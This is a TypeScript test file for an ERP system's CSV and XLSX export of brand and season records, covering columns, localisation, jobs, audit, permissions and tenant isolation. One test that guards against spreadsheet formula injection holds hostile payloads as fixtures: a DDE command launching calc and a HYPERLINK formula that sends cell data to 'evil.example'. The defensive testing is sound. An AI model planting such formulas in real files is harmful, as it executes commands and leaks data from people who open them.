import { downloadJobFile, getJob } from '@countinghouse/contract/desk/job'
import type { Master } from '@countinghouse/contract/master'
import { brand } from '@countinghouse/contract/procure/brand'
import { season } from '@countinghouse/contract/procure/season'
import { expect, test, vi } from 'vitest'
import { query } from '../../../../../tests/support/database.ts'
import { countsOf, importer } from '../../../../../tests/support/imports.ts'
import type { Client, Tenant } from '../../../../../tests/support/server.ts'
import { useServer } from '../../../../../tests/support/server.ts'
import { readAll } from '../../../../../tests/support/spreadsheets.ts'
import { runJob } from '../../platform/jobs/job-runner.ts'
import type { Cell } from '../../platform/spreadsheet/cell.ts'

const server = useServer()
const all = { matching: {}, except: [] }

// Every workbook is read in a thread of its own, which takes its time on a busy machine.
vi.setConfig({ testTimeout: 60_000 })

test('chosen columns in their order, under the words of the reader, as numbers and days of the company', async () => {
  const tenant = await server.company()
  await createBrands(tenant, 3)
  const columns = ['maxDiscountPpm', 'name', 'countryCode', 'isOwnLabel', 'status', 'updatedAt']
  const requested = { selection: all, columns, format: 'xlsx', sort: ['-code'] } as const
  const [headings, ...rows] = await exported(tenant.owner, brand, requested)
  expect(headings).toEqual(['Maximum discount (%)', 'Name', 'Country of origin', 'Private label', 'Status', 'Changed'])
  expect(rows.map((cells) => cells.slice(0, 5))).toEqual([
    [0.0003, 'Brand 3', 'Germany', 'No', 'Active'],
    [0.0002, 'Brand 2', 'Germany', 'Yes', 'Active'],
    [0.0001, 'Brand 1', 'Germany', 'No', 'Active'],
  ])
  expect(rows[0]?.[5]).toBeInstanceOf(Date)
  const arabic = await exported(tenant.owner, brand, { ...requested, format: 'csv' }, 'ar')
  expect(arabic[0]?.slice(1, 3)).toEqual(['الاسم', 'بلد المنشأ'])
  expect(arabic[1]?.[5]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/)
})

test('a CSV is separated and marked as it is asked for', async () => {
  const tenant = await server.company()
  await createBrands(tenant, 1)
  const requested = { selection: all, columns: ['code', 'name'], format: 'csv' } as const
  const text = async (more: object) => (await bytesOf(tenant.owner, brand, { ...requested, ...more })).toString()
  expect(await text({})).toBe('\uFEFFCode,Name\r\nC1,Brand 1\r\n')
  expect(await text({ separator: 'semicolon', bom: false })).toBe('Code;Name\r\nC1;Brand 1\r\n')
})

test('more than are answered at once become a job, whose file holds each chosen record once, in their order', async () => {
  const tenant = await server.company()
  await createBrands(tenant, 5001)
  const requested = { selection: all, columns: ['code'], format: 'csv' as const, sort: ['code'] }
  expect((await tenant.owner.send(brand.routes.exportNow, requested)).body.errorType).toBe('limit_exceeded')
  const { jobId } = await tenant.owner.call(brand.routes.exportLater, requested)
  await run(tenant, jobId)
  const job = await tenant.owner.call(getJob, { id: jobId })
  expect(job).toMatchObject({
    title: 'Export of Brands',
    status: 'done',
    done: 5001,
    total: 5001,
    result: { rows: 5001 },
  })
  const codes = (await tenant.owner.send(downloadJobFile, { id: jobId })).text.trim().split('\r\n').slice(1)
  expect(codes).toHaveLength(5001)
  expect(codes).toEqual(Array.from({ length: 5001 }, (_, index) => `C${index + 1}`).toSorted())
  const notes = await auditOf(tenant)
  expect(notes.map(({ user_id, action, rows }) => ({ user_id, action, rows }))).toEqual([
    { user_id: tenant.owner.user?.Usr_userid, action: 'desk.export.write', rows: 5001 },
  ])
})

test('an export of names leaves who, what and how many in the audit before its first byte', async () => {
  const tenant = await server.company()
  const ids = await createBrands(tenant, 3)
  await bytesOf(tenant.owner, brand, { selection: { ids: ids.slice(1) }, format: 'csv' })
  expect(await auditOf(tenant)).toEqual([
    {
      user_id: tenant.owner.user?.Usr_userid,
      action: 'procure.brand.exportNow',
      label: 'procure.brand',
      selection: { ids: ids.slice(1) },
      rows: 2,
    },
  ])
})

test('only the right to export opens it, a withdrawn one ends the job, and no other company is in it', async () => {
  const tenant = await server.company()
  const other = await server.company()
  const ids = await createBrands(tenant, 2)
  await createBrands(other, 1)
  const viewer = await tenant.as({ may: ['brand:view', 'brand:edit'] })
  const requested = { selection: all, format: 'csv' } as const
  for (const route of [brand.routes.exportNow, brand.routes.exportLater])
    expect((await viewer.send(route, requested)).body.errorType).toBe('forbidden')
  const foreign = await exported(other.owner, brand, { ...requested, selection: { ids } })
  expect(foreign, 'ids of another company name nothing').toHaveLength(1)
  const clerk = await tenant.as({ may: ['brand:view', 'brand:export'] })
  const { jobId } = await clerk.call(brand.routes.exportLater, requested)
  await query(
    server.database.superUrl,
    `delete from erp.role_event where company_id = $1 and page_event_id in (select id from erp.page_event where permission = 'brand:export')`,
    [tenant.companyId],
  )
  await run(tenant, jobId)
  expect(await clerk.call(getJob, { id: jobId })).toMatchObject({
    status: 'failed',
    problem: { errorType: 'forbidden' },
    file: null,
  })
})

test('a right that counts from some addresses alone opens no job that was asked for from elsewhere', async () => {
  const tenant = await server.company()
  const clerk = await tenant.as({ may: ['brand:view', 'brand:export'] })
  const { jobId } = await clerk.call(brand.routes.exportLater, { selection: all, format: 'csv' })
  const bind = (range: string) =>
    query(
      server.database.superUrl,
      `update erp.role r set ip_allow = array[$2]::text[] from erp.user_role u
       where r.company_id = $1 and u.company_id = $1 and u.role_id = r.id and u.user_id = $3`,
      [tenant.companyId, range, clerk.user?.Usr_userid],
    )
  await bind('10.0.0.0/8')
  await run(tenant, jobId)
  const problem = { status: 'failed', problem: { errorType: 'forbidden' } }
  await bind('127.0.0.0/8')
  expect(await clerk.call(getJob, { id: jobId })).toMatchObject(problem)
  const again = await clerk.call(brand.routes.exportLater, { selection: all, format: 'csv' })
  await run(tenant, again.jobId)
  expect(await clerk.call(getJob, { id: again.jobId })).toMatchObject({ status: 'done' })
})

test.each([
  ['brand', 'csv', brand],
  ['brand', 'xlsx', brand],
  ['season', 'csv', season],
  ['season', 'xlsx', season],
] as const)('a re-importable export of a %s is taken in again without a change, as %s', async (_, format, master) => {
  const tenant = await server.company()
  if (master === brand) await createBrands(tenant, 40)
  else await createSeasons(tenant)
  const requested = { selection: all, format, isReimportable: true } as const
  const table = await exported(tenant.owner, master, requested, 'ar')
  expect(table[0]?.slice(0, 4)).toEqual(['id', 'version', 'code', 'name'])
  const { outcomes } = await importer(server, tenant, master).run(table)
  expect(countsOf(outcomes)).toEqual({ unchanged: table.length - 1 })
})

test('H8: 40 formulas come out as texts in both formats, and are the same when they come back', async () => {
  const tenant = await server.company()
  await query(
    server.database.superUrl,
    `insert into procure.brand (company_id, code, name, is_own_label, is_discount_allowed, description)
     select $1, 'F' || n, 'Formula ' || n, false, true, payload from unnest($2::text[]) with ordinality as p(payload, n)`,
    [tenant.companyId, formulas],
  )
  expect(formulas).toHaveLength(40)
  const requested = { selection: all, columns: ['code', 'description'], sort: ['updatedAt'] } as const
  const csv = (await bytesOf(tenant.owner, brand, { ...requested, format: 'csv' })).toString()
  expect(csv.match(/(?:^|[,\r\n])"?[=+\-@\t\uFF1D\uFF0B\uFF0D\uFF20][^\r\n]*/gu) ?? []).toEqual([])
  const file = await bytesOf(tenant.owner, brand, { ...requested, format: 'xlsx' })
  expect(file.includes('<f>')).toBe(false)
  for (const [bytes, name] of [
    [Buffer.from(csv), 'x.csv'],
    [file, 'x.xlsx'],
  ] as const) {
    const { cells } = await readAll(bytes, name)
    expect(cells.slice(1).map(([, payload]) => payload)).toEqual(formulas)
  }
})

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''-"]
const formulas = starts.flatMap((start) => [
  `${start}1+1`,
  `${start}SUM(A1:A9)*cmd|'/C calc'!A0`,
  `${start}HYPERLINK("https://evil.example?"&A1,"x")`,
  `${start}IMPORTXML(CONCAT("//a";B2);"//b")`,
])

type Requested = Readonly<Record<string, unknown>>

async function bytesOf(client: Client, master: Master, requested: Requested, locale = 'en'): Promise<Buffer> {
  const answer = await server.app.http.inject({
    method: 'POST',
    url: `/api${master.routes.exportNow.path}`,
    headers: { authorization: `Bearer ${client.token}`, 'accept-language': locale },
    payload: requested,
  })
  expect(answer.statusCode, answer.body.slice(0, 500)).toBe(200)
  return answer.rawPayload
}

async function exported(
  client: Client,
  master: Master,
  requested: Requested & { readonly format: 'csv' | 'xlsx' },
  locale = 'en',
): Promise<(readonly Cell[])[]> {
  return (await readAll(await bytesOf(client, master, requested, locale), `x.${requested.format}`)).cells
}

async function createBrands({ companyId }: Tenant, count: number): Promise<number[]> {
  const rows = await query<{ id: string }>(
    server.database.superUrl,
    `insert into procure.brand (company_id, code, name, country_code, is_own_label, is_discount_allowed, max_discount_ppm, description)
     select $1, 'C' || n, 'Brand ' || n, 'DE', n % 2 = 0, true, n, case when n % 3 = 0 then E'two\nlines; "quoted"' end
     from generate_series(1, $2::int) n returning id`,
    [companyId, count],
  )
  return rows.map(({ id }) => Number(id))
}

async function createSeasons({ companyId }: Tenant): Promise<void> {
  await query(
    server.database.superUrl,
    `insert into procure.season (company_id, code, name, type, year, buying_from, buying_to)
     select $1, 'S' || n, 'Season ' || n, 'holiday', 2020 + n, ('2026-01-' || n)::date, ('2026-02-0' || n)::date
     from generate_series(1, 9) n`,
    [companyId],
  )
}

async function auditOf({ companyId }: Tenant) {
  return await query(
    server.database.maintUrl,
    `select user_id::int, action, entity_label as label,
       (select (c ->> 'after')::int from jsonb_array_elements(changes) c where c ->> 'field' = 'rows') as rows,
       (select c -> 'after' from jsonb_array_elements(changes) c where c ->> 'field' = 'selection') as selection
     from platform.audit where company_id = $1 and entity = 'desk.export'`,
    [companyId],
  )
}

function run({ companyId }: Tenant, jobId: number): Promise<void> {
  return runJob(server.app.jobs, () => {}, { companyId, jobId })
}
